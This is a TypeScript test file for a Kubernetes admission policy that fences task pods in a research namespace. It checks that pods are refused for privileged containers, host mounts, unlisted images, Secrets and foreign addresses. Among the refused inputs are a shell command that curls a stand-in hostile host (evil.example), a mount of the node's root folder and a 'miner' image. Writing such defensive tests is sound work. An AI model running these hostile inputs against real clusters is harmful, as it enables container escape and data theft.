import assert from "node:assert/strict";
import { TaskAdmission, type TaskAdmissionArgs } from "../../../components/kubernetes/task-admission";
import { TaskService } from "../../../components/kubernetes/task-service";
import { type AdmissionJudge, type AdmissionSpec, admissionJudge } from "../../support/admission";
import { assertWellBuilt, type Recorded, recordResources } from "../../support/record";
import { heart } from "../cloud/heart";
import { findings } from "./tasks-judged";
import { funnelTasks, pinned } from "./tasks-of-heart";

const samtools = pinned("samtools:1.21");
const funnel = pinned("funnel:0.12.2");
const args: TaskAdmissionArgs = {
  project: heart,
  namespace: "heart-tasks",
  accounts: { task: [samtools], "funnel-worker": [funnel], "tesk-filer": [pinned("filer:v0.10.2")] },
  serverImages: [funnel],
  filerImages: [pinned("filer:v0.10.2")],
  prefixes: ["s3://heart-input/", "s3://heart-scratch/"],
};

const build = (changes: Partial<TaskAdmissionArgs> = {}): Promise<Recorded[]> =>
  recordResources(() => void new TaskAdmission("heart-admission", { ...args, ...changes }));

type Part = Record<string, unknown>;

const container: Part = {
  name: "task",
  image: samtools,
  command: ["samtools", "view", "s3://heart-input/a.bam"],
  args: ["-o", "/out/a"],
  env: [{ name: "HOME", value: "/tmp" }],
};

/** A pod that is let in, with some parts of its spec and of its one container changed. */
const pod = (spec: Part = {}, changes: Part = {}) => ({
  apiVersion: "v1",
  kind: "Pod",
  spec: { serviceAccountName: "task", containers: [{ ...container, ...changes }], ...spec },
});

/** Against a mocked engine and a CEL of JavaScript; test/integration/task-admission.spec.ts asks a real API server. */
describe("TaskAdmission", () => {
  let spec: AdmissionSpec & Part;
  let admissionMessages: AdmissionJudge;
  before(async () => {
    admissionMessages = await admissionJudge();
    const [, policy] = await build();
    spec = policy?.inputs.spec as typeof spec;
  });

  const create = (object: unknown): string[] => admissionMessages(spec, { operation: "CREATE" }, object);

  it("is a policy and a binding that denies, for every pod and job of the namespace", async () => {
    const all = await build();
    assertWellBuilt(all);
    assert.deepEqual(
      all.map(({ type, name }) => `${type.replace(/.*:/, "")} ${name}`),
      [
        "TaskAdmission heart-admission",
        "ValidatingAdmissionPolicy heart-admission",
        "ValidatingAdmissionPolicyBinding heart-admission-binding",
      ],
    );
    assert.equal(spec.failurePolicy, "Fail");
    assert.deepEqual(spec.matchConstraints, {
      resourceRules: [
        {
          apiGroups: [""],
          apiVersions: ["v1"],
          resources: ["pods", "pods/ephemeralcontainers"],
          operations: ["CREATE", "UPDATE"],
        },
        { apiGroups: ["batch"], apiVersions: ["v1"], resources: ["jobs"], operations: ["CREATE"] },
      ],
    });
    assert.deepEqual(all[2]?.inputs.spec, {
      policyName: "heart-tasks-pods",
      validationActions: ["Deny", "Audit"],
      matchResources: {
        namespaceSelector: { matchLabels: { "kubernetes.io/metadata.name": "heart-tasks" } },
      },
    });
    for (const { message } of spec.validations) assert.ok(message.length > 20, message);
  });

  it("lets in a task's pod, a worker's, a filer's and a job of such a pod", () => {
    assert.deepEqual(create(pod()), []);
    const secret = { volumes: [{ name: "keys", secret: { secretName: "aws-secret" } }] };
    const worker = pod(
      { ...secret, serviceAccountName: "funnel-worker" },
      { image: funnel, args: ["https://elsewhere.example/"] },
    );
    assert.deepEqual(create(worker), []);
    const filer = pod({ ...secret, serviceAccountName: "tesk-filer" }, { image: pinned("filer:v0.10.2") });
    assert.deepEqual(create(filer), []);
    assert.deepEqual(create({ kind: "Job", spec: { template: { spec: pod().spec } } }), []);
    const token = { name: "token", projected: { sources: [{ serviceAccountToken: { path: "token" } }] } };
    assert.deepEqual(create(pod({ volumes: [token, { name: "tmp", emptyDir: {} }] })), []);
  });

  const notListed = `the image "${pinned("miner")}" is not listed for the service account "task"; listed are ${samtools}`;
  const noDigest = [
    'the image "registry.site.example/samtools:1.21" has no digest; name it with @sha256:…',
    `the image "registry.site.example/samtools:1.21" is not listed for the service account "task"; listed are ${samtools}`,
  ];
  const noAccount = (account: string): string =>
    `the service account "${account}" is none of task, funnel-worker, tesk-filer`;
  const foreign = (address: string): string =>
    `the address "${address}" is not in s3://heart-input/, s3://heart-scratch/`;
  const noSecret = "programs of tasks get no Secret; remove the volume or the variable";
  const miner = [{ ...container, image: pinned("miner") }];
  const { serviceAccountName: _, ...withoutAccount } = pod().spec;
  const refused: [what: string, object: unknown, messages: string[]][] = [
    [
      "a privileged container",
      pod({}, { securityContext: { privileged: true } }),
      ['the container "task" is privileged; remove securityContext.privileged'],
    ],
    [
      "a folder of the node",
      pod({ volumes: [{ name: "root", hostPath: { path: "/" } }] }),
      ['the volume "root" is a folder of the node; use a persistentVolumeClaim or emptyDir'],
    ],
    ...["hostNetwork", "hostPID", "hostIPC"].map((key): [string, unknown, string[]] => [
      key,
      pod({ [key]: true }),
      ["the pod uses a namespace of its node; remove hostNetwork, hostPID and hostIPC"],
    ]),
    [
      "a port of the node",
      pod({}, { ports: [{ containerPort: 80, hostPort: 80 }] }),
      ["the pod takes a port of its node; remove hostPort"],
    ],
    ["an image that is not listed", pod({}, { image: pinned("miner") }), [notListed]],
    ["such an image that starts first", pod({ initContainers: miner }), [notListed]],
    ["such an image that looks inside", pod({ ephemeralContainers: miner }), [notListed]],
    ["a listed image by its tag", pod({}, { image: "registry.site.example/samtools:1.21" }), noDigest],
    ["another service account", pod({ serviceAccountName: "cluster-admin" }), [noAccount("cluster-admin")]],
    ["no service account, which is the default one", { spec: withoutAccount }, [noAccount("default")]],
    [
      "a task's image with the worker's account",
      pod({ serviceAccountName: "funnel-worker" }),
      [`the image "${samtools}" is not listed for the service account "funnel-worker"; listed are ${funnel}`],
    ],
    [
      "another project's bucket in an argument",
      pod({}, { args: ["cp", "s3://lung-input/a /x"] }),
      [foreign("s3://lung-input/a")],
    ],
    [
      "the web in a command",
      pod({}, { command: ["sh", "-c", "curl 'HTTPS://evil.example/x'"] }),
      [foreign("HTTPS://evil.example/x")],
    ],
    [
      "another bucket in a variable, as TES-K gives tasks to its filer",
      pod({}, { env: [{ name: "JSON_INPUT", value: '{"outputs":[{"url":"s3://lung-scratch/a"}]}' }] }),
      [foreign("s3://lung-scratch/a")],
    ],
    [
      "a bucket whose name begins as ours",
      pod({}, { args: ["s3://heart-input-2/a"] }),
      [foreign("s3://heart-input-2/a")],
    ],
    [
      "a Secret as a volume",
      pod({ volumes: [{ name: "keys", secret: { secretName: "funnel" } }] }),
      [noSecret],
    ],
    [
      "a Secret in a projected volume",
      pod({ volumes: [{ name: "keys", projected: { sources: [{ secret: { name: "funnel" } }] } }] }),
      [noSecret],
    ],
    [
      "a Secret in a variable",
      pod({}, { env: [{ name: "KEY", valueFrom: { secretKeyRef: { name: "funnel", key: "a" } } }] }),
      [noSecret],
    ],
    ["a Secret as all variables", pod({}, { envFrom: [{ secretRef: { name: "funnel" } }] }), [noSecret]],
    [
      "a job of such a pod",
      { kind: "Job", spec: { template: { spec: pod({}, { image: pinned("miner") }).spec } } },
      [notListed],
    ],
  ];
  for (const [what, object, messages] of refused)
    it(`refuses ${what}`, () => {
      assert.deepEqual(create(object), messages);
    });

  it("judges a pod anew when it changes, not when the cluster notes how it does", () => {
    const update = (object: unknown, old: unknown): string[] =>
      admissionMessages(spec, { operation: "UPDATE" }, object, old);
    const former = pod({}, { image: pinned("former") });
    assert.deepEqual(update({ ...former, status: { phase: "Succeeded" } }, former), []);
    assert.deepEqual(update(pod({}, { image: pinned("miner") }), pod()), [notListed]);
  });

  it("holds every rule at every tier, where the namespace runs tasks", async () => {
    // the pack looks for this policy because of the service; alone there is no task to fence
    assert.deepEqual(
      await findings(
        (place) => new TaskService("heart-tasks", { ...funnelTasks, ...place }, place.opts),
        [3],
      ),
      [],
    );
    assert.deepEqual(
      await findings((place) => new TaskAdmission("heart-admission", { ...args, ...place }, place.opts)),
      [],
    );
    const [missed] = await findings(() => undefined, [2]);
    assert.match(
      missed ?? "",
      /safe-settings-task-namespace-fenced: namespace "heart-tasks" runs tasks of any image/,
    );
  });

  const wrong: [what: string, changes: Partial<TaskAdmissionArgs>, problem: string][] = [
    ["nobody", { accounts: {} }, "accounts must name at least one service account"],
    [
      "an account's name",
      { accounts: { Task: [samtools] } },
      'accounts.Task must be the name of a service account, got "Task"',
    ],
    [
      "an image by its tag",
      { accounts: { task: ["docker.io/library/alpine:3"] } },
      'accounts.task[0] must be an image with registry and digest, registry/name[:tag]@sha256:…, got "docker.io/library/alpine:3"',
    ],
    [
      "a server's image by its tag",
      { serverImages: ["docker.io/library/alpine:3"] },
      'serverImages[0] must be an image with registry and digest, registry/name[:tag]@sha256:…, got "docker.io/library/alpine:3"',
    ],
    [
      "a filer's image by its tag",
      { filerImages: ["docker.io/library/alpine:3"] },
      'filerImages[0] must be an image with registry and digest, registry/name[:tag]@sha256:…, got "docker.io/library/alpine:3"',
    ],
    ["no addresses", { prefixes: [] }, "prefixes must list at least one beginning of an address"],
    ...["s3://", "s3://heart-input", "heart-input/", "http://heart.example/", "s3://*/"].map(
      (prefix): [string, Partial<TaskAdmissionArgs>, string] => [
        `the address ${prefix}`,
        { prefixes: [prefix] },
        `prefixes[0] must be an address of a bucket or host that ends with "/", such as "s3://heart-input/", got "${prefix}"`,
      ],
    ),
  ];
  for (const [what, changes, problem] of wrong)
    it(`is not made of ${what}`, async () => {
      await assert.rejects(build(changes), { message: `admission of tasks "heart-admission": ${problem}` });
    });

  it("lets Funnel make and remove no volumes but its own", async () => {
    const all = await recordResources(() => void new TaskService("heart-tasks", funnelTasks));
    const policy = all.find(({ name }) => name === "heart-tasks-server-volumes-policy");
    const judge = (
      operation: string,
      volume: unknown,
      username = "system:serviceaccount:heart-tasks:funnel",
    ) =>
      admissionMessages(
        policy?.inputs.spec as AdmissionSpec,
        { operation, userInfo: { username } },
        operation === "CREATE" ? volume : null,
        operation === "DELETE" ? volume : null,
      );
    const own = {
      metadata: { labels: { "spe.namespace": "heart-tasks" } },
      spec: { csi: { driver: "none.spe.invalid" }, claimRef: { namespace: "heart-tasks" } },
    };
    const ofNode = { ...own, spec: { ...own.spec, csi: undefined, hostPath: { path: "/" } } };
    const ofOthers = { ...own, metadata: { labels: { "spe.namespace": "lung-tasks" } } };
    assert.deepEqual(judge("CREATE", own), []);
    assert.deepEqual(judge("DELETE", own), []);
    assert.deepEqual(judge("CREATE", ofNode, "system:kube-controller-manager"), []);
    assert.deepEqual(judge("CREATE", JSON.parse(JSON.stringify(ofNode))), [
      "Funnel makes volumes of the driver none.spe.invalid only",
    ]);
    assert.deepEqual(judge("DELETE", ofOthers), [
      "Funnel makes and removes volumes of its own namespace only",
    ]);
    assert.deepEqual(judge("DELETE", { metadata: { name: "of-others" } }), [
      "Funnel makes and removes volumes of its own namespace only",
    ]);
  });
});
